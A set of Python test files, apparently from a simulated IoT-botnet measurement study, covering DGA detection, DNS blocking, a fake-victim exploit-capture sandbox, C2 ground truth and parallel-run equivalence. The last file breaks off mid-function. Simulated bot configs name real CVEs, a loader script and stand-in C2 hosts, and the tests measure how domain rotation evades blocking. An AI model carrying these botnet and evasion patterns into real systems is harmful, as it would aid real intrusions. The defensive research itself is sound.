    def test_score_is_bounded_and_pure(self):
        scorer = DomainScorer()
        for name in ("cnc42.xyz", "bcdfghjklmnp.cc", "", "42.net", "a.b.c"):
            value = scorer.score(name)
            assert 0.0 <= value <= 1.0
            assert value == scorer.score(name)


def _dga_name(defense, index=0):
    """A generated name (plus its registrar-feed shape) for block tests."""
    seed = dga_schedule_seed(SEED, "mirai", 9)
    return dga_domains(seed, "mirai", index)[0]


class TestDnsDefense:
    def test_benign_name_never_blocked(self):
        defense = DnsDefense(seed=SEED)
        defense.observe_registration("cnc42.xyz", since=0.0)
        assert not defense.blocked("cnc42.xyz", now=1e9)

    def test_detection_delay_window(self):
        defense = DnsDefense(seed=SEED)
        name = _dga_name(defense)
        defense.observe_registration(name, since=1000.0)
        decision = defense.decision_for(name)
        assert decision.blocked_from is not None
        low = 1000.0 + DETECTION_DELAY_MIN
        high = 1000.0 + DETECTION_DELAY_MAX
        assert low <= decision.blocked_from <= high
        assert not defense.blocked(name, now=1000.0)
        assert not defense.blocked(name, now=decision.blocked_from - 1.0)
        assert defense.blocked(name, now=decision.blocked_from)

    def test_deterministic_and_order_independent(self):
        seed = dga_schedule_seed(SEED, "tsunami", 3)
        names = dga_domains(seed, "tsunami", 5)
        forward, backward = DnsDefense(seed=7), DnsDefense(seed=7)
        for offset, name in enumerate(names):
            forward.observe_registration(name, since=100.0 * offset)
        for offset, name in reversed(list(enumerate(names))):
            backward.observe_registration(name, since=100.0 * offset)
        for name in names:
            assert forward.decision_for(name) == backward.decision_for(name)

    def test_earliest_registration_wins(self):
        defense = DnsDefense(seed=SEED)
        name = _dga_name(defense)
        defense.observe_registration(name, since=500.0)
        defense.observe_registration(name, since=100.0)
        assert defense.decision_for(name).registered_at == 100.0
        defense.observe_registration(name, since=900.0)
        assert defense.decision_for(name).registered_at == 100.0

    def test_appeal_lifts_block(self):
        defense = DnsDefense(seed=SEED)
        seed = dga_schedule_seed(SEED, "daddyl33t", 4)
        appealed = None
        for day in range(120):
            for name in dga_domains(seed, "daddyl33t", day):
                if stable_unit("dns-appeal", SEED, name) < APPEAL_SUCCESS_RATE:
                    appealed = name
                    break
            if appealed:
                break
        assert appealed is not None, "no appeal-winning name in 120 days"
        defense.observe_registration(appealed, since=0.0)
        decision = defense.decision_for(appealed)
        assert decision.overridden_from == decision.blocked_from + APPEAL_WINDOW
        assert defense.blocked(appealed, now=decision.blocked_from)
        assert not defense.blocked(appealed, now=decision.overridden_from)


class _AlwaysServfail:
    def dns_servfail(self, name, now):
        return True


class TestResolverDefenseWiring:
    def _resolver(self):
        resolver = Resolver()
        resolver.defense = DnsDefense(seed=SEED)
        metrics = MetricsRegistry()
        resolver.bind_metrics(metrics)
        return resolver, metrics

    def test_blocked_lookup_counted(self):
        resolver, metrics = self._resolver()
        name = _dga_name(resolver.defense)
        resolver.register(name, 0x01020304, since=0.0)
        blocked_from = resolver.defense.decision_for(name).blocked_from
        assert resolver.resolve(name, now=0.0) == 0x01020304
        assert resolver.resolve(name, now=blocked_from + 1.0) is None
        assert metrics.value("dns_queries_total", outcome="resolved") == 1
        assert metrics.value("dns_queries_total", outcome="blocked") == 1
        assert metrics.value("dns_blocked_total") == 1
        assert metrics.value("dga_domains_total") == 2

    def test_benign_lookup_not_counted_as_dga(self):
        resolver, metrics = self._resolver()
        resolver.register("cnc42.xyz", 0x01020304, since=0.0)
        assert resolver.resolve("cnc42.xyz", now=10.0) == 0x01020304
        assert metrics.value("dga_domains_total") == 0
        assert metrics.value("dns_blocked_total") == 0

    def test_all_outcomes_preseeded(self):
        _, metrics = self._resolver()
        for outcome in Resolver.OUTCOMES:
            assert metrics.value("dns_queries_total", outcome=outcome) == 0

    def test_blocked_answer_is_nxdomain_sinkhole(self):
        resolver, _ = self._resolver()
        name = _dga_name(resolver.defense)
        resolver.register(name, 0x01020304, since=0.0)
        blocked_from = resolver.defense.decision_for(name).blocked_from
        response = resolver.answer(DnsQuery(5, name), now=blocked_from + 1.0)
        assert response.is_nxdomain

    def test_servfail_still_counted(self):
        resolver = Resolver()
        metrics = MetricsRegistry()
        resolver.bind_metrics(metrics)
        resolver.faults = _AlwaysServfail()
        resolver.register("c2.example", 0x01020304, since=0.0)
        assert resolver.resolve("c2.example", now=10.0) is None
        response = resolver.answer(DnsQuery(9, "c2.example"), now=10.0)
        assert response.rcode == RCODE_SERVFAIL
        assert metrics.value("dns_queries_total", outcome="servfail") == 2


@pytest.fixture(scope="module")
def dga_world():
    return generate_world(seed=SEED, scale=DGA_SCALE)


class TestDgaWorld:
    def test_some_deployments_rotate(self, dga_world):
        rotating = [d for d in dga_world.truth.deployments if d.dga]
        assert rotating, "no deployment converted to DGA at smoke scale"
        for deployment in rotating:
            assert deployment.dga_seed != 0
            assert deployment.generations
            assert deployment.dga_domains

    def test_registered_domains_live_in_the_zone(self, dga_world):
        resolver = dga_world.internet.resolver
        known = set(resolver.known_names())
        for deployment in dga_world.truth.deployments:
            for _day, domain in deployment.dga_domains:
                assert domain in known

    def test_rotating_campaign_configs_carry_the_seed(self, dga_world):
        seen = 0
        for campaign in dga_world.truth.campaigns:
            if campaign.c2 is None or not campaign.c2.dga:
                continue
            for planned in campaign.samples:
                config = planned.sample.config
                assert config.dga_seed == campaign.c2.dga_seed
                assert config.uses_dga
                assert config.c2_host == ""
                seen += 1
        assert seen > 0

    def test_off_by_default(self):
        world = generate_world(seed=SEED, scale=SMOKE_SCALE)
        assert not any(d.dga for d in world.truth.deployments)
        assert world.internet.resolver.defense is None
        for planned in world.truth.all_samples:
            assert planned.sample.config.dga_seed == 0


@pytest.fixture(scope="module")
def dga_datasets():
    world = generate_world(seed=SEED, scale=DGA_SCALE)
    _, _, datasets = run_study(world)
    return datasets


class TestDgaStudy:
    def test_churn_clusters_link_daily_domains(self, dga_datasets):
        clusters = ca.domain_churn_clusters(dga_datasets)
        assert clusters
        assert any(len(records) > 1 for records in clusters.values())
        for key, records in clusters.items():
            for record in records:
                assert record.is_dns
                assert record.churn_key == key

    def test_churned_records_feed_the_dns_lifespan_cdf(self, dga_datasets):
        """Satellite: Figure 3 (dns=True) must include rotating-domain
        records, not silently drop them."""
        churned = [
            r for rs in ca.domain_churn_clusters(dga_datasets).values()
            for r in rs
        ]
        assert churned
        points = ca.lifetime_cdf(dga_datasets, dns=True)
        dns_spans = [r.observed_lifespan_days
                     for r in dga_datasets.d_c2s.values() if r.is_dns]
        assert len(points) == len(set(dns_spans))
        for record in churned:
            assert record.observed_lifespan_days in dns_spans

    def test_churn_lifetime_cdf_nonempty(self, dga_datasets):
        points = ca.domain_churn_lifetime_cdf(dga_datasets)
        assert points
        assert points[-1].fraction == 1.0

    def test_block_evasion_rate_in_range(self, dga_datasets):
        rate = ca.block_evasion_rate(dga_datasets)
        assert 0.0 < rate <= 1.0

    def test_serial_equals_parallel(self, dga_datasets):
        world = generate_world(seed=SEED, scale=DGA_SCALE)
        _, _, parallel = run_study(world, workers=2)
        assert dataset_digest(parallel) == dataset_digest(dga_datasets)

    def test_plain_study_has_no_churn(self):
        world = generate_world(seed=SEED, scale=SMOKE_SCALE)
        _, _, datasets = run_study(world)
        assert ca.domain_churn_clusters(datasets) == {}
        assert ca.domain_churn_lifetime_cdf(datasets) == []
        assert ca.block_evasion_rate(datasets) == 0.0


def _record(endpoint, first_day, last_day, churn_key="", live=0):
    noon = 12 * 3600.0
    return C2Record(
        endpoint=endpoint, port=23, is_dns=True,
        first_seen=first_day * 86400.0 + noon,
        last_seen=last_day * 86400.0 + noon,
        first_day=first_day, last_day=last_day,
        live_observations=live, churn_key=churn_key,
    )


class TestChurnMathSynthetic:
    def test_cluster_span_covers_all_names(self):
        datasets = Datasets(d_c2s={
            "aaa.xyz": _record("aaa.xyz", 0, 0, churn_key="k1"),
            "bbb.xyz": _record("bbb.xyz", 2, 2, churn_key="k1"),
            "ccc.xyz": _record("ccc.xyz", 4, 5, churn_key="k1"),
            "static.example": _record("static.example", 0, 9),
        })
        points = ca.domain_churn_lifetime_cdf(datasets)
        # one cluster spanning day-0 noon .. day-5 noon = 5 days
        assert [(p.value, p.fraction) for p in points] == [(5, 1.0)]

    def test_per_domain_records_stay_short_lived(self):
        record = _record("aaa.xyz", 3, 3, churn_key="k1")
        assert record.observed_lifespan_days == 1

    def test_evasion_counts_only_referring_profiles(self):
        datasets = Datasets(
            d_c2s={
                "aaa.xyz": _record("aaa.xyz", 0, 0, churn_key="k1"),
                "bbb.xyz": _record("bbb.xyz", 1, 1, churn_key="k1"),
            },
            profiles=[
                BinaryNetworkProfile(
                    sha256="a" * 64, published=0.0, day=0, source="virustotal",
                    c2_endpoint="aaa.xyz", c2_is_dns=True, c2_live_on_day0=True),
                BinaryNetworkProfile(
                    sha256="b" * 64, published=0.0, day=1, source="virustotal",
                    c2_endpoint="bbb.xyz", c2_is_dns=True, c2_live_on_day0=False),
                BinaryNetworkProfile(
                    sha256="c" * 64, published=0.0, day=1, source="virustotal",
                    c2_endpoint="203.0.113.9", c2_live_on_day0=True),
            ],
        )
        assert ca.block_evasion_rate(datasets) == 0.5

    def test_evasion_empty_without_clusters(self):
        assert ca.block_evasion_rate(Datasets()) == 0.0
