"""End-to-end telemetry: a short study must emit sane, consistent metrics."""

import json
import re

import pytest

from repro.core.study import run_study
from repro.obs import create_telemetry, to_prometheus
from repro.world import StudyScale, generate_world


@pytest.fixture(scope="module")
def observed_study():
    telemetry = create_telemetry()
    world = generate_world(
        seed=20220322,
        scale=StudyScale(sample_fraction=0.05, probe_days=2,
                         observe_duration=1800.0,
                         observe_poll_interval=300.0, scan_budget=120),
    )
    malnet, campaign, datasets = run_study(world, telemetry=telemetry)
    return telemetry, malnet, campaign, datasets


class TestPipelineCounters:
    def test_funnel_is_monotone(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        metrics = telemetry.metrics
        collected = metrics.value("samples_collected")
        verified = metrics.value("samples_verified")
        activated = metrics.value("samples_activated")
        assert collected >= verified >= activated > 0

    def test_activation_rate_near_configured(self, observed_study):
        telemetry, malnet, _campaign, _datasets = observed_study
        metrics = telemetry.metrics
        attempted = (metrics.value("samples_verified")
                     - metrics.value("emulation_errors"))
        rate = metrics.value("samples_activated") / attempted
        # ~0.90 configured; small-sample noise allowed
        assert 0.7 <= rate <= 1.0
        assert malnet.config.activation_rate == 0.90

    def test_counters_match_datasets(self, observed_study):
        telemetry, _malnet, _campaign, datasets = observed_study
        metrics = telemetry.metrics
        assert metrics.value("c2_records") == len(datasets.d_c2s)
        assert metrics.value("exploit_records") == len(datasets.d_exploits)
        assert metrics.value("ddos_records") == len(datasets.d_ddos)
        live = metrics.value("c2_liveness_probes", outcome="live")
        dead = metrics.value("c2_liveness_probes", outcome="dead")
        assert live + dead > 0
        live_profiles = sum(1 for p in datasets.profiles if p.c2_live_on_day0)
        assert live == live_profiles

    def test_sandbox_activation_outcomes(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        metrics = telemetry.metrics
        activated = metrics.value("sandbox_activations", outcome="activated")
        assert activated == metrics.value("samples_activated")

    def test_feed_latency_histograms_cover_both_feeds(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        family = telemetry.metrics.get("feed_latency_seconds")
        assert family is not None
        feeds = {labels["feed"]: child for labels, child in family.series()}
        assert set(feeds) == {"virustotal", "malwarebazaar"}
        for child in feeds.values():
            assert child.count > 0
            # feed latency is bounded by a day (§2.2)
            assert 0 <= child.sum / child.count <= 24 * 3600.0

    def test_probe_counters_by_port(self, observed_study):
        telemetry, _malnet, campaign, _datasets = observed_study
        family = telemetry.metrics.get("probe_attempts")
        attempts = sum(child.value for _labels, child in family.series())
        assert attempts > 0
        responses = telemetry.metrics.get("probe_responses")
        engaged = sum(child.value for _labels, child in responses.series())
        assert engaged <= attempts


class TestStageSpans:
    def test_per_stage_timings_present(self, observed_study):
        telemetry, _malnet, campaign, _datasets = observed_study
        agg = telemetry.tracer.aggregate()
        assert agg["study.pipeline"]["count"] == 1
        assert agg["study.probing"]["count"] == 1
        from repro.world.calibration import ACTIVE_WEEKS

        assert agg["pipeline.run_day"]["count"] == ACTIVE_WEEKS * 7 + 60
        assert agg["probing.slot"]["count"] == campaign.total_slots
        assert agg["sandbox.analyze"]["count"] >= \
            telemetry.metrics.value("samples_activated")
        for stat in agg.values():
            assert stat["wall_seconds"] >= 0.0

    def test_spans_record_simulation_time(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        agg = telemetry.tracer.aggregate()
        # the daily loop advances the simulated clock by months overall
        assert agg["study.pipeline"]["sim_seconds"] > 24 * 3600.0

    def test_trace_tree_nests_days_under_pipeline(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        roots = [root.name for root in telemetry.tracer.roots]
        assert "study.pipeline" in roots
        pipeline_root = telemetry.tracer.roots[roots.index("study.pipeline")]
        child_names = {c.name for c in pipeline_root.children}
        assert "pipeline.run_day" in child_names


class TestExportOfRealStudy:
    def test_prometheus_parses_line_by_line(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        from tests.test_obs import PROM_SAMPLE_RE

        text = to_prometheus(telemetry.metrics)
        assert "# TYPE samples_collected counter" in text
        assert "# TYPE feed_latency_seconds histogram" in text
        for line in text.strip().splitlines():
            if line.startswith("# HELP ") or line.startswith("# TYPE "):
                assert re.match(r"^# (HELP|TYPE) [a-zA-Z_:][a-zA-Z0-9_:]*", line)
                continue
            assert PROM_SAMPLE_RE.match(line), line

    def test_snapshot_is_json_serializable(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        snapshot = json.loads(json.dumps(telemetry.snapshot(), default=str))
        assert snapshot["metrics"]["samples_collected"]["series"]
        assert snapshot["events"]["recorded"] > 0

    def test_events_include_study_lifecycle(self, observed_study):
        telemetry, _malnet, _campaign, _datasets = observed_study
        names = [e["event"] for e in telemetry.events.events]
        assert names[0] == "study.start"
        assert "study.complete" in names
        assert any(n == "pipeline.day" for n in names)
