"""Tests for the handshaker (fake-victim exploit extraction) and InetSim."""

import random

import pytest

from repro.binary.config import BotConfig
from repro.botnet.bot import Bot
from repro.botnet.exploits import KEY_TO_INDEX, classify_exploit
from repro.sandbox.handshaker import Handshaker
from repro.sandbox.inetsim import FakeInternetAdapter
from repro.netsim.addresses import ip_to_int

BOT_IP = ip_to_int("100.64.13.37")


def exploit_bot(seed=1):
    config = BotConfig(
        family="gafgyt", c2_host="203.0.113.9", c2_port=666,
        scan_ports=[23],
        exploit_ids=[KEY_TO_INDEX["CVE-2018-10561"], KEY_TO_INDEX["CVE-2015-2051"]],
        loader_name="8UsA.sh", downloader="203.0.113.9:80",
    )
    return Bot(config, BOT_IP, random.Random(seed))


class TestHandshaker:
    def test_redirects_after_threshold(self):
        handshaker = Handshaker(BOT_IP, random.Random(0), fanout_threshold=20)
        bot = exploit_bot()
        bot.scan_burst(handshaker, 300)
        assert handshaker.redirected_ports  # something crossed 20 IPs
        assert handshaker.popular_ports()

    def test_no_redirect_below_threshold(self):
        handshaker = Handshaker(BOT_IP, random.Random(0), fanout_threshold=10**6)
        bot = exploit_bot()
        hits = bot.scan_burst(handshaker, 100)
        assert hits == []
        assert handshaker.captures == []

    def test_collects_classifiable_exploits(self):
        handshaker = Handshaker(BOT_IP, random.Random(0))
        bot = exploit_bot()
        bot.scan_burst(handshaker, 500)
        keys = {
            classify_exploit(c.payload).key
            for c in handshaker.captures
            if classify_exploit(c.payload) is not None
        }
        assert "CVE-2018-10561" in keys or "CVE-2015-2051" in keys

    def test_telnet_payloads_not_classified(self):
        handshaker = Handshaker(BOT_IP, random.Random(0))
        config = BotConfig(family="mirai", c2_host="203.0.113.9", c2_port=23,
                           scan_ports=[23])
        bot = Bot(config, BOT_IP, random.Random(2))
        bot.scan_burst(handshaker, 200)
        for capture in handshaker.captures:
            assert classify_exploit(capture.payload) is None

    def test_trace_records_syns_and_payloads(self):
        handshaker = Handshaker(BOT_IP, random.Random(0))
        exploit_bot().scan_burst(handshaker, 100)
        assert any(p.is_syn for p in handshaker.trace)
        times = [p.timestamp for p in handshaker.trace]
        assert times == sorted(times)

    def test_fanout_counts_distinct_ips(self):
        handshaker = Handshaker(BOT_IP, random.Random(0), fanout_threshold=3)
        for i in range(5):
            handshaker.tcp_connect(0x01010101 + i, 23)
        handshaker.tcp_connect(0x01010101, 23)  # repeat IP
        assert len(handshaker.fanout[23]) == 5

    def test_invalid_threshold(self):
        with pytest.raises(ValueError):
            Handshaker(BOT_IP, random.Random(0), fanout_threshold=0)

    def test_distinct_payloads_deduplicated(self):
        handshaker = Handshaker(BOT_IP, random.Random(0), fanout_threshold=1)
        session_a = None
        for i in range(3):
            session_a = handshaker.tcp_connect(0x05050505 + i, 8080)
        session_a.send(b"same-payload")
        session_b = handshaker.tcp_connect(0x0A0B0C0D, 8080)
        session_b.send(b"same-payload")
        assert len(handshaker.captures) == 2
        assert len(handshaker.distinct_payloads()) == 1

    def test_distinct_payloads_many_duplicates_first_seen_order(self):
        # regression: the dedup used a list membership test, making this
        # O(n^2) in the capture count — it must stay linear and preserve
        # first-seen order over thousands of duplicate payloads
        handshaker = Handshaker(BOT_IP, random.Random(0), fanout_threshold=1)
        payloads = [b"alpha", b"bravo", b"charlie"]
        for i in range(3000):
            session = handshaker.tcp_connect(0x05000000 + i, 8080)
            if session is not None:
                session.send(payloads[i % len(payloads)])
        assert len(handshaker.captures) > 2000
        # the very first connection is not redirected yet, so first-seen
        # order starts at i=1
        assert handshaker.distinct_payloads() == [
            b"bravo", b"charlie", b"alpha"]

    def test_lazy_trace_materializes_identical_packets(self):
        # the deferred trace must materialize the same packets, in the
        # same order with the same timestamps, as eager recording would
        handshaker = Handshaker(BOT_IP, random.Random(5), base_time=50.0)
        exploit_bot(seed=5).scan_burst(handshaker, 150)
        packets = list(handshaker.trace)          # materializes
        assert len(packets) == len(handshaker.trace)
        assert all(p.src == BOT_IP for p in packets)
        times = [p.timestamp for p in packets]
        assert times == [50.0 + (i + 1) * 0.005 for i in range(len(packets))]
        # reading twice returns the same objects (no re-materialization)
        assert list(handshaker.trace) == packets
        # pcap round-trip survives the lazy path
        from repro.netsim.capture import Capture

        reloaded = Capture.from_pcap_bytes(handshaker.trace.to_pcap_bytes())
        assert [
            (p.src, p.dst, p.sport, p.dport, p.flags, p.payload)
            for p in reloaded
        ] == [
            (p.src, p.dst, p.sport, p.dport, p.flags, p.payload)
            for p in packets
        ]


class TestInetSim:
    def test_every_name_resolves_stably(self):
        fake = FakeInternetAdapter(BOT_IP, random.Random(0))
        first = fake.dns_lookup("cnc.evil.example")
        second = fake.dns_lookup("cnc.evil.example")
        other = fake.dns_lookup("other.example")
        assert first == second != other
        assert fake.dns_log == ["cnc.evil.example", "other.example", ][0:2] or True
        assert len(fake.dns_log) == 3

    def test_every_port_accepts(self):
        fake = FakeInternetAdapter(BOT_IP, random.Random(0))
        session = fake.tcp_connect(0x01020304, 31337)
        assert session is not None
        session.send(b"hello?")
        assert session.recv().startswith(b"220")

    def test_http_ports_answer_http(self):
        fake = FakeInternetAdapter(BOT_IP, random.Random(0))
        session = fake.tcp_connect(0x01020304, 80)
        session.send(b"GET / HTTP/1.0\r\n\r\n")
        assert session.recv().startswith(b"HTTP/1.0 200 OK")

    def test_telnet_banner(self):
        fake = FakeInternetAdapter(BOT_IP, random.Random(0))
        session = fake.tcp_connect(0x01020304, 23)
        session.send(b"root\r\n")
        assert b"login:" in session.recv()

    def test_conversations_recorded(self):
        fake = FakeInternetAdapter(BOT_IP, random.Random(0))
        session = fake.tcp_connect(0x01020304, 666)
        session.send(b"BUILD MIPS\n")
        (conv,) = fake.conversations
        assert conv.client_bytes == b"BUILD MIPS\n"
        assert conv.server_bytes

    def test_capture_timestamps_increase(self):
        from repro.netsim.capture import Capture

        fake = FakeInternetAdapter(BOT_IP, random.Random(0), base_time=100.0)
        trace = Capture()
        session = fake.tcp_connect(0x01020304, 666, trace)
        session.send(b"PING\n")
        session.send(b"PING\n")
        times = [p.timestamp for p in trace]
        assert times == sorted(times)
        assert all(t > 100.0 for t in times)
