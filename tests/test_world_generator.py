"""Tests for the world generator's ground truth."""

import random

from repro.binary.elf import is_mips32_elf
from repro.botnet.families import ATTACK_FAMILIES, FAMILIES
from repro.netsim.packet import Protocol
from repro.world import generate_world
from repro.world.calibration import (
    ATTACK_COMMAND_COUNT,
    PROBE_PORTS,
    PROBED_C2_COUNT,
)


class TestDeterminism:
    def test_same_seed_same_world(self, smoke_world):
        from tests.conftest import SMOKE

        other = generate_world(seed=20220322, scale=SMOKE)
        a = [s.sample.sha256 for s in smoke_world.truth.all_samples]
        b = [s.sample.sha256 for s in other.truth.all_samples]
        assert a == b
        assert ([d.endpoint for d in smoke_world.truth.deployments]
                == [d.endpoint for d in other.truth.deployments])

    def test_different_seed_different_world(self, smoke_world):
        from tests.conftest import SMOKE

        other = generate_world(seed=999, scale=SMOKE)
        a = {s.sample.sha256 for s in smoke_world.truth.all_samples}
        b = {s.sample.sha256 for s in other.truth.all_samples}
        assert a != b


class TestSamples:
    def test_budget_respected(self, smoke_world):
        assert len(smoke_world.truth.all_samples) == smoke_world.scale.total_samples

    def test_all_samples_are_mips32(self, smoke_world):
        for planned in smoke_world.truth.all_samples:
            assert is_mips32_elf(planned.sample.data)

    def test_families_registered(self, smoke_world):
        for planned in smoke_world.truth.all_samples:
            assert planned.sample.family in FAMILIES

    def test_p2p_samples_have_no_c2(self, mid_world):
        for planned in mid_world.truth.all_samples:
            if planned.sample.family in ("mozi", "hajime"):
                assert planned.c2 is None
                assert planned.sample.config.p2p_bootstrap

    def test_every_sample_in_vt_feed(self, smoke_world):
        for planned in smoke_world.truth.all_samples:
            assert smoke_world.vt.lookup_hash(planned.sample.sha256) is not None


class TestDeployments:
    def test_c2_hosts_exist_with_listeners(self, smoke_world):
        for deployment in smoke_world.truth.deployments:
            host = smoke_world.internet.host(deployment.address)
            assert host is not None
            assert host.listener(Protocol.TCP, deployment.port) is not None

    def test_lifetimes_positive(self, smoke_world):
        for deployment in smoke_world.truth.deployments:
            assert deployment.online_until > deployment.online_from

    def test_downloader_port_bound_on_c2_hosts(self, smoke_world):
        for deployment in smoke_world.truth.deployments:
            if deployment.is_probed:
                continue
            host = smoke_world.internet.host(deployment.address)
            assert host.listener(Protocol.TCP, 80) is not None

    def test_dns_deployments_resolve_while_alive(self, mid_world):
        resolver = mid_world.internet.resolver
        named = [d for d in mid_world.truth.deployments if d.domain]
        assert named, "expected some DNS-named C2s at mid scale"
        for deployment in named:
            mid = (deployment.online_from + deployment.online_until) / 2
            assert resolver.resolve(deployment.domain, mid) == deployment.address
            assert resolver.resolve(deployment.domain,
                                    deployment.online_until + 10) is None

    def test_intel_registered_for_every_deployment(self, smoke_world):
        for deployment in smoke_world.truth.deployments:
            assert smoke_world.vt.get_intel(deployment.endpoint) is not None

    def test_addresses_fall_in_asdb(self, smoke_world):
        for deployment in smoke_world.truth.deployments:
            assert smoke_world.asdb.lookup(deployment.address) is not None


class TestAttackPlan:
    def test_42_attacks_planned(self, smoke_world):
        assert len(smoke_world.truth.attacks) == ATTACK_COMMAND_COUNT

    def test_attack_families_only(self, smoke_world):
        for attack in smoke_world.truth.attacks:
            assert attack.c2.family in ATTACK_FAMILIES

    def test_attacks_scheduled_on_servers(self, smoke_world):
        for attack in smoke_world.truth.attacks:
            methods = [item.command.method
                       for item in attack.c2.server.schedule]
            assert attack.command.method in methods

    def test_attack_c2s_long_lived(self, smoke_world):
        for attack in smoke_world.truth.attacks:
            assert attack.c2.lifetime_days >= 8.0

    def test_attack_times_inside_c2_life(self, smoke_world):
        for attack in smoke_world.truth.attacks:
            assert attack.c2.online_from <= attack.when < attack.c2.online_until


class TestProbingWorld:
    def test_seven_probed_c2s(self, smoke_world):
        assert len(smoke_world.truth.probed_deployments) == PROBED_C2_COUNT

    def test_probed_c2s_inside_probe_subnets(self, smoke_world):
        subnets = smoke_world.truth.probe_subnets
        for deployment in smoke_world.truth.probed_deployments:
            assert any(deployment.address in subnet for subnet in subnets)

    def test_probed_ports_from_table5(self, smoke_world):
        for deployment in smoke_world.truth.probed_deployments:
            assert deployment.port in PROBE_PORTS

    def test_probed_c2s_gated(self, smoke_world):
        """Their listeners must have a non-trivial accepts gate."""
        internet = smoke_world.internet
        for deployment in smoke_world.truth.probed_deployments:
            host = internet.host(deployment.address)
            listener = host.listener(Protocol.TCP, deployment.port)
            start = smoke_world.probe_start
            slots = [listener.accepts(start + i * 4 * 3600.0) for i in range(60)]
            assert any(slots) and not all(slots)

    def test_decoys_present_with_banners(self, smoke_world):
        decoys = [h for h in smoke_world.internet.hosts.values()
                  if h.name == "decoy-web"]
        assert decoys
        for host in decoys:
            assert any(l.banner.startswith(b"HTTP/1.0 200 OK")
                       for l in host.listeners.values())


class TestDownloaders:
    def test_twelve_downloader_only_hosts(self, smoke_world):
        assert len(smoke_world.truth.downloader_only_addresses) == 12

    def test_downloader_hosts_serve_port_80(self, smoke_world):
        for address in smoke_world.truth.downloader_only_addresses:
            host = smoke_world.internet.host(address)
            assert host.listener(Protocol.TCP, 80) is not None
