"""The sharded runner's hard invariant: parallel output == serial output.

Covers the three layers separately so a regression points at its cause:
the sha256 partition itself, :meth:`Datasets.merge` semantics on
synthetic conflicting records, in-process shard+merge against the serial
pipeline, and the full multiprocessing path through ``run_study``.
"""

import os

import pytest

from repro.botnet.protocols.base import AttackCommand
from repro.core.datasets import Datasets
from repro.core.parallel import ShardedStudyRunner, fold_counters
from repro.core.pipeline import MalNet, PipelineConfig
from repro.core.study import run_study
from repro.determinism import shard_of
from repro.obs import MetricsRegistry
from repro.world import XL_SCALE, StudyScale, generate_world

SCALE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
SEED = 1337


@pytest.fixture(scope="module")
def serial():
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(world)
    return datasets


# -- the equivalence property -------------------------------------------------


@pytest.mark.parametrize("workers", [1, 2, 4])
def test_parallel_study_equals_serial(workers, serial):
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(world, workers=workers)
    assert datasets == serial
    # dataclass equality compares dicts order-insensitively; the invariant
    # includes serial insertion order, so check it explicitly
    assert list(datasets.d_c2s) == list(serial.d_c2s)
    assert [p.sha256 for p in datasets.profiles] == \
        [p.sha256 for p in serial.profiles]


@pytest.mark.skipif(not os.environ.get("REPRO_XL"),
                    reason="XL-scale invariant check; set REPRO_XL=1")
def test_parallel_study_equals_serial_at_xl_scale():
    """The invariant at ~10x smoke volume (the columnar-core stress run)."""
    world = generate_world(seed=SEED, scale=XL_SCALE)
    _malnet, _campaign, serial_xl = run_study(world)
    for workers in (1, 2, 4):
        world = generate_world(seed=SEED, scale=XL_SCALE)
        _malnet, _campaign, datasets = run_study(world, workers=workers)
        assert datasets == serial_xl
        assert list(datasets.d_c2s) == list(serial_xl.d_c2s)
        assert [p.sha256 for p in datasets.profiles] == \
            [p.sha256 for p in serial_xl.profiles]


def test_inprocess_shards_merge_to_serial(serial):
    """Shard + merge equivalence without multiprocessing in the loop."""
    shards = []
    for index in range(3):
        world = generate_world(seed=SEED, scale=SCALE)
        malnet = MalNet(world, PipelineConfig(shard_index=index,
                                              shard_count=3))
        malnet.run()
        shards.append(malnet.datasets)
    merged = Datasets.merge(shards)
    assert merged.profiles == serial.profiles
    assert merged.d_c2s == serial.d_c2s
    assert list(merged.d_c2s) == list(serial.d_c2s)
    assert merged.d_exploits == serial.d_exploits
    assert merged.d_ddos == serial.d_ddos


def test_shards_partition_the_corpus(serial):
    """Every profiled sample lands in exactly one shard, none are lost."""
    hashes = [p.sha256 for p in serial.profiles]
    for count in (2, 4, 7):
        assigned = {}
        for sha256 in hashes:
            shard = shard_of(sha256, count)
            assert 0 <= shard < count
            assigned.setdefault(shard, []).append(sha256)
        assert sorted(h for block in assigned.values() for h in block) == \
            sorted(hashes)
    assert all(shard_of(sha256, 1) == 0 for sha256 in hashes)


# -- merge semantics on conflicting records -----------------------------------


def test_merge_c2_record_conflicts():
    """Two shards referring to one endpoint fold into serial semantics."""
    late, early = Datasets(), Datasets()
    a = late.c2_record("198.51.100.9", 23, False, origin=(5, "ffff"))
    a.sample_hashes.add("ffff")
    a.family_labels.add("mirai")
    a.first_day, a.last_day = 5, 9
    a.first_seen, a.last_seen = 500.0, 900.0
    a.live_observations = 2
    a.vt_malicious_day0 = True
    b = early.c2_record("198.51.100.9", 2323, False, origin=(2, "aaaa"))
    b.sample_hashes.add("aaaa")
    b.family_labels.add("gafgyt")
    b.first_day, b.last_day = 2, 2
    b.first_seen, b.last_seen = 200.0, 200.0
    b.live_observations = 1
    b.vt_malicious_recheck = True
    b.protocol_verified = True

    record = Datasets.merge([late, early]).d_c2s["198.51.100.9"]
    # the globally-earliest creator supplies the creation-time fields
    assert record.port == 2323
    assert record.origin == (2, "aaaa")
    # cumulative fields fold min/max/union/or/sum
    assert record.first_day == 2 and record.last_day == 9
    assert record.first_seen == 200.0 and record.last_seen == 900.0
    assert record.sample_hashes == {"aaaa", "ffff"}
    assert record.family_labels == {"gafgyt", "mirai"}
    assert record.live_observations == 3
    assert record.vt_malicious_day0 and record.vt_malicious_recheck
    assert record.protocol_verified and not record.issued_attack


def test_merge_c2_insertion_order_is_creation_order():
    shard_a, shard_b = Datasets(), Datasets()
    shard_a.c2_record("10.0.0.2", 23, False, origin=(3, "cc"))
    shard_a.c2_record("10.0.0.3", 23, False, origin=(1, "aa"))
    shard_b.c2_record("10.0.0.1", 23, False, origin=(2, "bb"))
    merged = Datasets.merge([shard_a, shard_b])
